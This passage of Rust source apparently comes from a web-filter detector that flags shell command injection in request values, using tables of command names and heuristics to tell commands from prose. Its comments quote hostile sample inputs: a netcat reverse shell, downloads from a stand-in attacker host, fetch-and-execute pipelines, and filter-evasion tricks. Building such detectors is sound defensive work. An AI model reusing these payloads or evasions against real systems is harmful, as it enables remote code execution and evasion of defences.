    b"nl",
    b"nltest",
    b"nmap",
    b"nohup",
    b"nproc",
    b"nsenter",
    b"nslookup",
    b"objdump",
    b"od",
    b"openssl",
    b"passwd",
    b"pgrep",
    b"pkexec",
    b"pkill",
    b"powershell",
    b"printenv",
    b"ps",
    b"pwd",
    b"pwsh",
    b"readelf",
    b"regasm",
    b"regedit",
    b"regsvr32",
    b"rmdir",
    b"rmt",
    b"rpm",
    b"rsync",
    b"runas",
    b"rundll32",
    b"schtasks",
    b"scp",
    b"sed",
    b"setcap",
    b"setsid",
    b"sftp",
    b"sh",
    b"shred",
    b"socat",
    b"strace",
    b"strings",
    b"sudo",
    b"sysctl",
    b"systemctl",
    b"systeminfo",
    b"tac",
    b"taskkill",
    b"tasklist",
    b"tcpdump",
    b"tcsh",
    b"telnet",
    b"tftp",
    b"traceroute",
    b"uniq",
    b"unset",
    b"unshare",
    b"unxz",
    b"unzip",
    b"uptime",
    b"useradd",
    b"usermod",
    b"visudo",
    b"vssadmin",
    b"wc",
    b"wevtutil",
    b"wget",
    b"whoami",
    b"whois",
    b"wmic",
    b"wscript",
    b"xargs",
    b"xterm",
    b"xxd",
    b"xzcat",
    b"yum",
    b"zcat",
    b"zsh",
    b"zstd",
    b"zstdcat",
];
static RARE_TABLE: WordTable<170> = WordTable::new(RARE);

/// Commands that are also words of English or names of languages (sorted).
const COMMON: &[&[u8]; 102] = &[
    b"alias",
    b"apt",
    b"at",
    b"attrib",
    b"cat",
    b"chroot",
    b"copy",
    b"cp",
    b"cut",
    b"date",
    b"dd",
    b"del",
    b"diff",
    b"dir",
    b"echo",
    b"erase",
    b"eval",
    b"exec",
    b"export",
    b"file",
    b"find",
    b"ftp",
    b"gem",
    b"groups",
    b"halt",
    b"head",
    b"history",
    b"host",
    b"id",
    b"ip",
    b"java",
    b"join",
    b"kill",
    b"last",
    b"less",
    b"ln",
    b"locate",
    b"look",
    b"lp",
    b"lua",
    b"mail",
    b"make",
    b"man",
    b"more",
    b"mount",
    b"mv",
    b"net",
    b"nice",
    b"node",
    b"nodejs",
    b"npm",
    b"paste",
    b"perf",
    b"perl",
    b"php",
    b"ping",
    b"pip",
    b"print",
    b"printf",
    b"python",
    b"read",
    b"reboot",
    b"reg",
    b"ren",
    b"rev",
    b"rm",
    b"route",
    b"ruby",
    b"sc",
    b"set",
    b"shutdown",
    b"sleep",
    b"sort",
    b"source",
    b"split",
    b"ss",
    b"ssh",
    b"start",
    b"stat",
    b"su",
    b"systemd",
    b"tail",
    b"tar",
    b"tee",
    b"test",
    b"time",
    b"top",
    b"touch",
    b"tr",
    b"type",
    b"uname",
    b"users",
    b"w",
    b"wall",
    b"watch",
    b"whereis",
    b"which",
    b"who",
    b"write",
    b"xz",
    b"yes",
    b"zip",
];
static COMMON_TABLE: WordTable<102> = WordTable::new(COMMON);

fn classify(word: &[u8]) -> Option<Kind> {
    if word.is_empty() {
        return None;
    }
    // Versioned interpreters: python3.10, perl5, php8.2.
    let stem_end = word.iter().position(|b| b.is_ascii_digit()).unwrap_or(word.len());
    let stem = &word[..stem_end];
    if stem_end < word.len()
        && matches!(
            stem,
            b"python" | b"perl" | b"php" | b"ruby" | b"lua" | b"node" | b"pip" | b"gcc" | b"g++" | b"clang"
        )
    {
        return Some(Kind::Rare);
    }
    if word.starts_with(b"ansible") || word.starts_with(b"chef-") || word.starts_with(b"aa-") {
        return Some(Kind::Rare);
    }
    if RARE_TABLE.contains(word) {
        Some(Kind::Rare)
    } else if COMMON_TABLE.contains(word) {
        Some(Kind::Common)
    } else {
        None
    }
}

/// What follows a command word.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Follow {
    /// Nothing (the value ends, perhaps after blanks).
    End,
    /// Another shell operator: `;`, `|`, `&`, a line break, a closing backtick or parenthesis.
    Operator,
    /// An argument only a shell would take: a flag, a path, a redirection, a variable, a quote.
    ShellArgument,
    /// A word after a blank, as in prose.
    Word,
    /// Punctuation glued to the word (`id,name`, `ls.txt`): not a command at all.
    Other,
}

fn follow(v: &[u8], mut i: usize) -> Follow {
    let start = i;
    while i < v.len() && matches!(v[i], b' ' | b'\t') {
        i += 1;
    }
    // `${IFS}` stands for the blank.
    if v[i..].starts_with(b"${IFS}") || v[i..].starts_with(b"$IFS") {
        return Follow::ShellArgument;
    }
    match v.get(i) {
        None => Follow::End,
        Some(b'\n' | b'\r') if v[i..].iter().all(u8::is_ascii_whitespace) => Follow::End,
        Some(b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b')' | b'}') => Follow::Operator,
        Some(b'>' | b'<' | b'\'' | b'"' | b'$' | b'~' | b'*' | b'%') => Follow::ShellArgument,
        Some(b'-') if v.get(i + 1).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'-') => Follow::ShellArgument,
        Some(b'/' | b'.' | b'\\') if i > start => Follow::ShellArgument,
        // A drive: `c:\`, `C:/`.
        Some(b)
            if b.is_ascii_alphabetic() && v.get(i + 1) == Some(&b':') && matches!(v.get(i + 2), Some(b'\\' | b'/')) =>
        {
            Follow::ShellArgument
        }
        Some(_) if i == start => Follow::Other,
        _ => Follow::Word,
    }
}

/// A `User-Agent` as RFC 9110 §10.1.5 writes it, products and comments separated by blanks
/// (`Python/3.11 aiohttp/3.9.1`, `Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101`): a product,
/// a name and a version of letters, digits and `-._+#~`, holds nothing a shell acts on, so only
/// the comments are read as text. Read whole, every HTTP library's default that names its
/// language first (`Python/3.11 websockets/17.4`) was a command followed by its argument. Every
/// product must have its version: a bare word (`sh -c id`, `nc -e sh host 4444`, `whoami`) is
/// what a command line is made of, so such a value, as any other, is read whole.
pub(crate) fn user_agent(v: &[u8], shape: Shape, level: u8) -> Option<Hit> {
    let product_byte = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'+' | b'#' | b'~');
    let mut found = None;
    let mut i = 0;
    while i < v.len() {
        if i > 0 {
            let blanks = v[i..].iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
            if blanks == 0 {
                return check(v, shape, true, level);
            }
            i += blanks;
            if i == v.len() {
                break;
            }
        }
        if v[i] == b'(' {
            let Some(close) = comment_end(v, i) else { return check(v, shape, true, level) };
            if found.is_none() {
                let comment = &v[i + 1..close];
                let at = i + 1;
                found = check(comment, Shape::of(comment), true, level).map(|h| Hit {
                    start: h.start + at,
                    end: h.end + at,
                    ..h
                });
            }
            i = close + 1;
            continue;
        }
        let name = v[i..].iter().take_while(|&&b| product_byte(b)).count();
        i += name;
        if name == 0 || v.get(i) != Some(&b'/') {
            return check(v, shape, true, level);
        }
        let version = v[i + 1..].iter().take_while(|&&b| product_byte(b)).count();
        i += 1 + version;
        if version == 0 {
            return check(v, shape, true, level);
        }
    }
    found
}

/// The `)` that closes the comment opened at `open`, nested comments and `\`-quoted bytes within.
fn comment_end(v: &[u8], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = open;
    while i < v.len() {
        match v[i] {
            b'\\' => i += 1,
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// Known commands where a shell would start one.
fn commands(v: &[u8], level: u8, vars: &Vars<'_>) -> Option<Hit> {
    if let Some(h) = command_at(v, 0, 0, true, level, vars) {
        return Some(h);
    }
    static SEPARATORS: [bool; 256] = byte_set(b";\n\r`|&$");
    let mut i = 0;
    // Bounded: each iteration advances `i` by at least one byte.
    while let Some(at) = find_in(v, i, &SEPARATORS) {
        i = at;
        let separator_len = match (v[i], v.get(i + 1).copied()) {
            (b';' | b'\n' | b'\r' | b'`', _) => 1,
            (b'|', Some(b'|')) | (b'&', Some(b'&')) => 2,
            (b'|' | b'&', _) => 1,
            (b'$', Some(b'(')) => 2,
            _ => {
                i += 1;
                continue;
            }
        };
        if matches!(v[i], b'\n' | b'\r') {
            // A run of blank lines is one separator: from each of its line breaks the command
            // reader read the rest of the run, the square of its length (tester t1: 64 KiB of
            // line breaks, 0.22 s).
            let run = v[i..].iter().take_while(|b| b.is_ascii_whitespace()).count();
            if let Some(last) = v[i..i + run].iter().rposition(|&b| b == b'\n' || b == b'\r') {
                i += last;
            }
        }
        if v[i] == b'`' && level < 2 {
            // A markdown code fence's line (```python): the code below it is read as any text.
            if let Some(end) = fence_line(v, i) {
                i = end;
                continue;
            }
            if let Some(close) = prose_quote(v, i) {
                i = close + 1;
                continue;
            }
        }
        if let Some(h) = command_at(v, i, separator_len, false, level, vars) {
            return Some(h);
        }
        // A run of backticks is read whole from its first (doubled ones are an evasion the
        // command reader takes in its stride): starting again at each of them read the rest of
        // the run every time, quadratic in its length.
        if v[i] == b'`' {
            i += v[i..].iter().take_while(|&&b| b == b'`').count();
        } else {
            i += separator_len;
        }
    }
    None
}

#[inline(never)]
fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: u8, vars: &Vars<'_>) -> Option<Hit> {
    if !at_start {
        if let Some(end) = expansion_command(v, at, separator_len, vars) {
            return hit(1, at, (end + 24).min(v.len()), level);
        }
    }
    let (word, end) = read_command(v, at + separator_len, vars);
    // A Windows path opening a value is a ticket's or a form's (`C:\ProgramData\...\Start
    // Menu`); run by path, a command follows a separator (`& c:\windows\system32\whoami.exe`).
    if at_start && word.drive {
        return None;
    }
    let mut text = word.text();
    let mut kind = classify(text);
    // `bcdboot/r`: a Windows switch glued to the command (no Windows command is one letter:
    // `w/o onions` is an abbreviation, not Unix's `w`).
    if kind.is_none() && !word.buf[..word.len].starts_with(b"/") {
        if let Some(slash) = word.buf[..word.len].iter().position(|&b| b == b'/').filter(|&at| at > 1) {
            text = &word.buf[..slash];
            kind = classify(text);
        }
    }
    let mut next = follow(v, end);
    // `time sh -c id`, `nohup curl ...`: a prefix runs the command after it; a shell's own
    // (`exec id`, `command id`, cmd's `call %a%`) whatever the command is.
    // cmd's `call %a:~0,6%`: whatever the expansion makes is run.
    if text == b"call" && matches!(v[end..].trim_ascii_start().first(), Some(b'%' | b'!')) && !at_start {
        return hit(1, at, (end + 24).min(v.len()), level);
    }
    let options = next == Follow::ShellArgument && runs_next(text);
    if (next == Follow::Word || options) && is_prefix(text) {
        // `command -p id`: the prefix's own flags first (a flag's value, `sudo -u root`, is
        // taken for the command); `builtin exec id`: a prefix of a prefix, a few deep.
        let mut shells_prefix = runs_next(word.text());
        let mut from = if options { after_options(v, end) } else { end };
        for _ in 0..3 {
            let (inner, inner_end) = read_command(v, from, vars);
            let Some(inner_kind) = classify(inner.text()) else { break };
            let inner_next = follow(v, inner_end);
            let runs = inner_kind == Kind::Rare
                || inner_next == Follow::ShellArgument
                || ((inner.evasive || inner.expanded) && inner.len > 1)
                || (!at_start && shells_prefix && matches!(inner_next, Follow::End | Follow::Operator));
            if runs {
                return hit(1, at, (inner_end + 24).min(v.len()), level);
            }
            if inner_next != Follow::Word || !runs_next(inner.text()) {
                break;
            }
            shells_prefix = true;
            from = inner_end;
        }
    }
    let kind = kind?;
    if next == Follow::Word && known_subcommand(text, &v[end..]) {
        next = Follow::ShellArgument;
    }
    // `Type 'yes' to confirm`: a quoted plain word in a sentence, not a command's argument.
    if at_start && kind == Kind::Common && next == Follow::ShellArgument && quoted_in_prose(v, end) {
        next = Follow::Word;
    }
    let lvl = match (at_start, kind, next) {
        (_, _, Follow::Other) => return None,
        // A command word a shell builds from the value's own variables (`a=id;$a`, cmd's
        // `set a=whoami& %a%`): a sentence after it is still no command line.
        (false, _, Follow::Word) if word.expanded && !argument_like(&v[..command_line_end(v, end)], end) => 2,
        (false, _, _) if word.expanded && word.len > 1 => 1,
        (_, _, _) if word.evasive && word.len > 1 => 1,
        (false, Kind::Rare, _) => 1,
        // `; sleep 5`, `| host evil.com`: a command line of its own after the separator, with
        // what the command takes; `; sleep well tonight` is a sentence (paranoia 2).
        (false, Kind::Common, Follow::Word) if !word.pathed => {
            // The word first: the rest is looked at for the few words scanners probe with.
            let probe = is_probe(text)
                && v[at..(at + separator_len).min(v.len())].iter().any(|b| matches!(b, b';' | b'|' | b'&'))
                && {
                    let line = &v[..command_line_end(v, end)];
                    argument_like(line, end) && short_command(line, end)
                };
            match probe {
                true => 1,
                false => 2,
            }
        }
        (false, Kind::Common, _) => 1,
        (true, _, Follow::ShellArgument) => 1,
        (true, _, Follow::Word) if word.pathed => 1,
        (true, Kind::Rare, Follow::Operator) if !is_interpreter(text) && !is_language(text) => 1,
        // `wget evil.com/x`, `nc 10.0.0.1 4444`: an argument a command takes, not an English word
        // (`Curl up with a good book`, `wget is a command line tool`: paranoia 3).
        (true, Kind::Rare, Follow::Word) if !is_interpreter(text) && !is_language(text) => {
            // `NC 27601`, `NC State`: Unix runs no `NC`; `dig deeper`, `env vars`: words of
            // English first, so only an argument makes them a command line.
            let prose = word.capital || everyday_word(text);
            // Windows reads names in any case: a capital only makes prose of a word whose
            // argument is no more than a number (`NC 27601`), not a host or a path (`Nc 10.0.0.1`).
            let argument = argument_in(v, end, !word.capital);
            if argument || short_line(v) && !prose {
                1
            } else {
                2
            }
        }
        // A value that is nothing but an administration tool's name.
        (true, Kind::Rare, Follow::End) if is_admin_tool(text) => 1,
        (true, _, Follow::Word | Follow::Operator) => 3,
        // A lone word (`sort`, `id`) is a name, not a command line.
        (true, _, _) => return None,
    };
    (lvl <= level).then(|| Hit::new(lvl, at, (end + 24).min(v.len())))
}

/// Whether the rest of the line after a command at `i` holds what commands take: an option, a
/// host, a path, an address, a number, an assignment (`-m`, `evil.com`, `x/y`, `a=b`, `4444`,
/// `user@host`), a sentence's closing punctuation aside.
fn argument_like(v: &[u8], i: usize) -> bool {
    argument_in(v, i, true)
}

/// As [`argument_like`]; a bare number counts only with `numbers` (`NC 27601` is a ZIP code, and
/// `Nc 10.0.0.1 4444` a command line by its address; a backslash makes a Windows path).
fn argument_in(v: &[u8], i: usize, numbers: bool) -> bool {
    let line = &v[i..];
    let line = &line[..line.iter().position(|&b| b == b'\n' || b == b'\r').unwrap_or(line.len())];
    line.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).any(|word| {
        let word = word.strip_suffix(b".").or_else(|| word.strip_suffix(b",")).unwrap_or(word);
        let option = word.len() > 1 && word[0] == b'-' && (word[1].is_ascii_alphanumeric() || word[1] == b'-');
        // Without numbers, a version or a figure (`8.5.0`, `99.95%`) is none either; an IPv4
        // address is an argument.
        let figure = word.iter().all(|b| b.is_ascii_digit() || matches!(b, b'.' | b'%' | b','));
        if figure && !numbers {
            return word.iter().filter(|&&b| b == b'.').count() == 3;
        }
        option
            || (numbers && !word.is_empty() && word.iter().all(u8::is_ascii_digit))
            || word.iter().any(|b| matches!(b, b'.' | b'/' | b'=' | b'@' | b':' | b'\\'))
    })
}

/// A command whose word is an expansion no prose writes where a command starts, after the
/// separator at `at`; returns where the expansion ends. A shell variable (`;$a`, `;${a}`,
/// `;$_ -c id`, however it was filled: `b=$a`, `read a`, `for a in`, an array) with a command
/// line's follower; ANSI-C quoting (`;$'\x69d'`); the shell itself, `$0`, only with an option
/// or at a pipe's end (`$0/mo`, `Fee|$0|waived` are prices); cmd's substring and replacement
/// (`%a:~0,6%`, `%a:X=%`); PowerShell's call of what a lookup or a string names
/// (`&(gcm who*)`, `.('i'+'ex')`). Money is `$` and a digit, and stays prose.
fn expansion_command(v: &[u8], at: usize, separator_len: usize, vars: &Vars<'_>) -> Option<usize> {
    let mut i = at + separator_len;
    while i < v.len() && matches!(v[i], b' ' | b'\t' | b'"' | b'{' | b'(') {
        i += 1;
    }
    // A compound command's keyword opens a command too (`for a in x;do $a;done`).
    for keyword in [&b"do "[..], b"then ", b"else ", b"! ", b"if ", b"elif ", b"while ", b"until "] {
        if v[i..].starts_with(keyword) {
            i += keyword.len();
            break;
        }
    }
    // So does a function's body (`f(){ $1;}`).
    let name = v[i..].iter().take_while(|&&b| is_word(b)).count();
    for opening in [&b"(){ "[..], b"() { "] {
        if name > 0 && v[i + name..].starts_with(opening) {
            i += name + opening.len();
            break;
        }
    }
    let rest = &v[i..];
    if let Some(end) = word_with_a_variable(v, i, vars) {
        return Some(end);
    }
    match rest {
        // ANSI-C quoting, closed within the word (`$'s worth` is a possessive).
        [b'$', b'\'', rest @ ..] => {
            let close = rest.iter().take_while(|b| !b.is_ascii_whitespace()).position(|&b| b == b'\'')?;
            Some(i + 3 + close)
        }
        [b'$', b'{', b'0', b'}', ..] | [b'$', b'0', ..] => {
            let end = i + if rest[1] == b'{' { 4 } else { 2 };
            let end = if v.get(end) == Some(&b'"') { end + 1 } else { end };
            let piped = v[at] == b'|' && v[end..].iter().all(u8::is_ascii_whitespace) && fetched(&v[..at]);
            let after = v[end..].trim_ascii_start();
            let option = matches!(after, [b'-', c, ..] if c.is_ascii_alphabetic()) || after.starts_with(b"<");
            (piped || (option && end < v.len() && v[end] == b' ')).then_some(end)
        }
        [b'%', ..] => {
            let name = rest[1..].iter().take_while(|&&b| is_word(b)).count();
            let tail = &rest[1 + name..];
            let edits = name > 0
                && (tail.starts_with(b":~") || {
                    let close = tail.iter().take(64).position(|&b| b == b'%');
                    tail.first() == Some(&b':') && close.is_some_and(|c| tail[..c].contains(&b'='))
                });
            edits.then_some(i + 1 + name)
        }
        [b'&' | b'.', b'(', ..] | [b'&' | b'.', b' ', b'(', ..] => {
            let inner = rest[rest.iter().position(|&b| b == b'(')? + 1..].trim_ascii_start();
            let named = matches!(inner.first(), Some(b'\'' | b'"' | b'$'))
                || [&b"gcm"[..], b"gal", b"get-command", b"get-alias"].iter().any(|p| starts_with_ci(inner, p));
            named.then_some(i + 2)
        }
        // PowerShell's call of a variable it set (`$a='whoami'; & $a`), of an environment
        // path (`& $env:ComSpec /c`), or a script block dot-sourced (`.{whoami}`).
        [b'&' | b'.', b' ', b'$', ..] => {
            let name = rest[3..].iter().take_while(|&&b| is_word(b) || b == b':').count();
            let name = &rest[3..3 + name];
            // Set shortly before (a window, so a value of many calls costs its length).
            let before = &v[i.saturating_sub(256)..i];
            let set = before.iter().enumerate().filter(|&(_, &b)| b == b'$').any(|(at, _)| {
                let after = &before[at + 1..];
                starts_with_ci(after, name) && after[name.len()..].trim_ascii_start().starts_with(b"=")
            });
            let called = starts_with_ci(name, b"env:") || (!name.is_empty() && set);
            called.then_some(i + 3 + name.len())
        }
        [b'.', b'{', ..] => Some(i + 2),
        // A function's argument run as a command (`f(){ $1;};f id`), in a value that defines one.
        [b'$', b'1'..=b'9', ..]
            if {
                let before = &v[i.saturating_sub(256)..i];
                find_ci(before, b"(){", 0).is_some() || find_ci(before, b"() {", 0).is_some()
            } =>
        {
            Some(i + 2)
        }
        _ => None,
    }
}

/// The command word at `i` holds an expansion of a variable the value fills itself (`$a`,
/// `${a}t`, `i$a`, `$x$y`), or is `$_` given `-c`, with what a command line has after it;
/// returns where the word ends. Whatever the value holds, a shell runs what the word makes.
/// One the value never sets is empty to a shell (`;$a $b $c` runs nothing: CRS's own example).
fn word_with_a_variable(v: &[u8], i: usize, vars: &Vars<'_>) -> Option<usize> {
    let end = i + v[i..].iter().take_while(|&&b| is_word(b) || matches!(b, b'$' | b'{' | b'}' | b'"')).count();
    let word = &v[i..end];
    let mut known = false;
    // Letters glued to an expansion (`${a}t`, `i$a`): shell, never a template's prose.
    let mut glued = false;
    // What the word's expansions hold, when the value says it for each, read as a command word
    // is: `x=1;$x` makes no command, `a=id;$a` does.
    let mut made = Some(Word::default());
    let mut at = 0;
    while let Some(dollar) = word[at..].iter().position(|&b| b == b'$') {
        let start = at + dollar;
        glued |= word[at..start].iter().any(u8::is_ascii_alphanumeric);
        let Some((name, name_end)) = expansion_name(word, start) else {
            at = start + 1;
            continue;
        };
        let valid = name.first().is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
        known |= valid && name != b"_" && vars.assigns(name);
        if name == b"_" && word == b"$_" && v[end..].trim_ascii_start().starts_with(b"-c ") {
            known = true;
        }
        made = match (made, vars.value_of(name)) {
            (Some(mut text), Some(value)) if !value.is_empty() => {
                value.iter().for_each(|&c| text.push(c.to_ascii_lowercase()));
                Some(text)
            }
            _ => None,
        };
        at = name_end;
    }
    glued |= word[at.min(word.len())..].iter().any(u8::is_ascii_alphanumeric);
    if !known {
        return None;
    }
    // Whole expansions whose values are known: a command only when they make one's name.
    let names_a_command = match made.filter(|_| !glued) {
        Some(made) => {
            classify(made.text())?;
            true
        }
        None => false,
    };
    let runs = match follow(v, end) {
        Follow::End | Follow::Operator | Follow::ShellArgument => true,
        Follow::Word => names_a_command || glued || argument_like(&v[..command_line_end(v, end)], end),
        Follow::Other => false,
    };
    runs.then_some(end)
}

/// Whether the command line before a pipe at the end of `before` fetches or decodes what it
/// pipes on (`curl x|$0`, `iwr x | iex`, `(New-Object Net.WebClient).DownloadString(x) | iex`):
/// a price list's last cell (`$10 | $5 | $0`) does not.
fn fetched(before: &[u8]) -> bool {
    let segment = &before[before.iter().rposition(|b| matches!(b, b';' | b'|' | b'&' | b'\n')).map_or(0, |p| p + 1)..];
    [
        &b"curl"[..],
        b"wget",
        b"iwr",
        b"irm",
        b"invoke-",
        b"downloadstring",
        b"new-object",
        b".content",
        b"get-content",
        b"base64",
        b"echo",
        b"printf",
        b"cat ",
        b"nc ",
        b"fetch",
    ]
    .iter()
    .any(|p| find_ci(segment, p, 0).is_some())
}

/// Where the command line that goes on at `i` ends: its line's end or the next separator.
fn command_line_end(v: &[u8], i: usize) -> usize {
    v[i..].iter().position(|&b| matches!(b, b'\n' | b'\r' | b';' | b'|' | b'&')).map_or(v.len(), |at| i + at)
}

/// At most two words after a command at `i` (in `v` cut at its command line's end): its
/// arguments, not the rest of a sentence.
fn short_command(v: &[u8], i: usize) -> bool {
    v[i..].split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).count() <= 2
}

/// The common words scanners send as a command of their own to see whether one runs (a delay,
/// a lookup of their host): `; sleep 5`, `| host evil.com`. Others (`at`, `set`, `top`, `date`)
/// after a `;` are far likelier to be prose (`Lunch with Ana; at 12:30`).
fn is_probe(w: &[u8]) -> bool {
    matches!(w, b"sleep" | b"host" | b"ping")
}

/// Command names that open everyday sentences and notes, or are everyday abbreviations
/// (`dig deeper`, `curl bar`, `env vars`, `od green`, `nl team`): they need an argument (a
/// number counts: `wc 2026 tickets` is still read as a command line).
fn everyday_word(w: &[u8]) -> bool {
    matches!(w, b"dig" | b"curl" | b"env" | b"nl" | b"od" | b"wc" | b"nc" | b"unzip" | b"passwd")
}

/// At most three words: a command line, not a sentence.
fn short_line(v: &[u8]) -> bool {
    v.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).count() <= 3
}

/// Prefixes of [`is_prefix`] that are a shell's and no word of English: what follows them runs,
/// even a command with nothing after it (`;exec id`).
fn runs_next(w: &[u8]) -> bool {
    matches!(
        w,
        b"exec" | b"command" | b"builtin" | b"eval" | b"sudo" | b"doas" | b"nohup" | b"xargs" | b"busybox" | b"call"
    )
}

/// Where the words after `i` that are options (`-p`, `-u root` is read as `-u` and `root`) end.
fn after_options(v: &[u8], mut i: usize) -> usize {
    let line_end = command_line_end(v, i);
    loop {
        let word = i + v[i..line_end].iter().take_while(|&&b| b == b' ' || b == b'\t').count();
        if v.get(word) != Some(&b'-') || word >= line_end {
            return i;
        }
        i = word + v[word..line_end].iter().take_while(|b| !b.is_ascii_whitespace()).count();
    }
}

/// After a command word at `i`, a quoted plain word (letters, digits, blanks) followed by more
/// of the sentence: `Type 'yes' to confirm`, `Sort 'asc' or 'desc'`.
fn quoted_in_prose(v: &[u8], i: usize) -> bool {
    let rest = v[i..].trim_ascii_start();
    let Some(&quote @ (b'\'' | b'"')) = rest.first() else { return false };
    let Some(close) = rest[1..].iter().position(|&b| b == quote) else { return false };
    let inner = &rest[1..1 + close];
    let after = &rest[close + 2..];
    !inner.is_empty()
        && inner.iter().all(|&b| b.is_ascii_alphanumeric() || b == b' ')
        && after.first().is_some_and(|&b| b == b' ')
        && after
            .trim_ascii_start()
            .first()
            .is_some_and(|b| !matches!(b, b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b'$'))
}

/// Commands that run the command after them.
fn is_prefix(w: &[u8]) -> bool {
    matches!(
        w,
        b"time"
            | b"nice"
            | b"nohup"
            | b"sudo"
            | b"env"
            | b"exec"
            | b"timeout"
            | b"strace"
            | b"xargs"
            | b"command"
            | b"builtin"
            | b"eval"
            | b"call"
            | b"busybox"
            | b"doas"
            | b"setsid"
            | b"stdbuf"
    )
}

/// `v` is, in any case, nothing but an administration tool's name.
fn lone_admin_tool(v: &[u8]) -> bool {
    if v.len() > 16 || !v.first().is_some_and(u8::is_ascii_alphabetic) {
        return false;
    }
    // A name without `-` must be one of the few in `is_admin_tool`.
    if !v.contains(&b'-') && !ADMIN_TOOLS.contains(v) {
        return false;
    }
    let mut buf = [0u8; 16];
    let lower = &mut buf[..v.len()];
    lower.copy_from_slice(v);
    lower.make_ascii_lowercase();
    is_admin_tool(lower) && classify(lower) == Some(Kind::Rare)
}

/// The names without `-` that [`is_admin_tool`] accepts.
static ADMIN_TOOLS: WordTable<17> = WordTable::new(&[
    b"visudo",
    b"useradd",
    b"usermod",
    b"adduser",
    b"crontab",
    b"iptables",
    b"systemctl",
    b"cscli",
    b"whoami",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"systeminfo",
    b"tasklist",
    b"lastlog",
    b"getent",
    b"modprobe",
]);

/// Administration tools whose name alone, as a whole value, is a command: nobody's name, word
/// or product (`visudo`, `ansible-console`, `chef-shell`).
fn is_admin_tool(w: &[u8]) -> bool {
    w.contains(&b'-')
        || matches!(
            w,
            b"visudo"
                | b"useradd"
                | b"usermod"
                | b"adduser"
                | b"crontab"
                | b"iptables"
                | b"systemctl"
                | b"cscli"
                | b"whoami"
                | b"ifconfig"
                | b"ipconfig"
                | b"netstat"
                | b"systeminfo"
                | b"tasklist"
                | b"lastlog"
                | b"getent"
                | b"modprobe"
        )
}

/// Windows tools whose first argument is a verb of their own: `net user`, `reg add`.
fn known_subcommand(command: &[u8], rest: &[u8]) -> bool {
    let rest = rest.trim_ascii_start();
    let word_end = rest.iter().position(|b| !b.is_ascii_alphanumeric()).unwrap_or(rest.len());
    let sub = rest[..word_end].to_ascii_lowercase();
    match command {
        b"net" => matches!(
            sub.as_slice(),
            b"user" | b"localgroup" | b"group" | b"share" | b"use" | b"view" | b"session" | b"accounts" | b"config"
        ),
        b"reg" => matches!(sub.as_slice(), b"query" | b"add" | b"delete" | b"save" | b"export" | b"import"),
        b"sc" => matches!(sub.as_slice(), b"query" | b"create" | b"config" | b"qc" | b"delete"),
        _ => false,
    }
}

/// Programming languages are also what people list as skills.
fn is_language(w: &[u8]) -> bool {
    matches!(w, b"python" | b"perl" | b"php" | b"ruby" | b"lua" | b"node" | b"nodejs" | b"java" | b"gcc")
}

fn is_interpreter(w: &[u8]) -> bool {
    matches!(
        w,
        b"bash"
            | b"sh"
            | b"zsh"
            | b"ksh"
            | b"csh"
            | b"dash"
            | b"powershell"
            | b"pwsh"
            | b"cmd"
            | b"gcc"
            | b"awk"
            | b"sed"
    )
}

/// Windows batch control flow: `FOR [/D|/R|/L|/F ...] %x IN (...) DO ...` and `IF [/I] [NOT]
/// EXIST|DEFINED|ERRORLEVEL|CMDEXTVERSION ...` or `IF a==b ...`.
fn batch(v: &[u8]) -> Option<Hit> {
    // `for` and `if`, in any case, open with these two letters.
    let mut from = 0;
    while let Some(i) = find_either_ci(v, from, b'f', b'i') {
        if let Some(hit) = batch_at(v, i) {
            return Some(hit);
        }
        from = i + 1;
    }
    None
}

#[inline(never)]
fn batch_at(v: &[u8], i: usize) -> Option<Hit> {
    let boundary = i == 0 || !is_word(v[i - 1]);
    if boundary && (starts_with_ci(&v[i..], b"for") || starts_with_ci(&v[i..], b"if")) {
        let kw_len = if starts_with_ci(&v[i..], b"for") { 3 } else { 2 };
        let after = v.get(i + kw_len).copied();
        if after.is_some_and(|b| b == b' ' || b == b'\t' || b == b'/' || b == b'(') {
            let rest = &v[i + kw_len..v.len().min(i + 2048)];
            let matched = if kw_len == 3 { batch_for(rest) } else { batch_if(rest) };
            if matched {
                return Some(Hit::new(1, i, (i + 40).min(v.len())));
            }
        }
    }
    None
}

fn batch_for(rest: &[u8]) -> bool {
    // Options, then `%var` (or `%%var`), then `in`, `(`, and later `do`.
    let mut i = 0;
    loop {
        while i < rest.len() && rest[i].is_ascii_whitespace() {
            i += 1;
        }
        if rest.get(i) == Some(&b'/') && rest.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            i += 2;
            continue;
        }
        // Options in quotes, also as `\"...\"` when the payload was escaped for a shell.
        let escaped = rest.get(i) == Some(&b'\\') && rest.get(i + 1) == Some(&b'"');
        if rest.get(i) == Some(&b'"') || escaped {
            let open = i + 1 + usize::from(escaped);
            let Some(close) = rest[open..].iter().position(|&b| b == b'"') else { return false };
            i = open + close + 1;
            continue;
        }
        if i < rest.len() && !matches!(rest[i], b'%') && !rest[i].is_ascii_whitespace() {
            // A drive or path after /R.
            if rest[..i].iter().rev().find(|b| !b.is_ascii_whitespace()).is_some_and(|&b| b.eq_ignore_ascii_case(&b'r'))
            {
                while i < rest.len() && !rest[i].is_ascii_whitespace() {
                    i += 1;
                }
                continue;
            }
        }
        break;
    }
    if rest.get(i) != Some(&b'%') {
        return false;
    }
    let Some(in_at) = find_ci(rest, b" in", i) else { return false };
    let after_in = &rest[in_at + 3..];
    let paren = after_in.iter().position(|b| !b.is_ascii_whitespace());
    paren.is_some_and(|p| after_in[p] == b'(') && find_ci(after_in, b"do", 0).is_some()
}

fn batch_if(rest: &[u8]) -> bool {
    // The first eight words, without allocating.
    let mut buf: [&[u8]; 8] = [b""; 8];
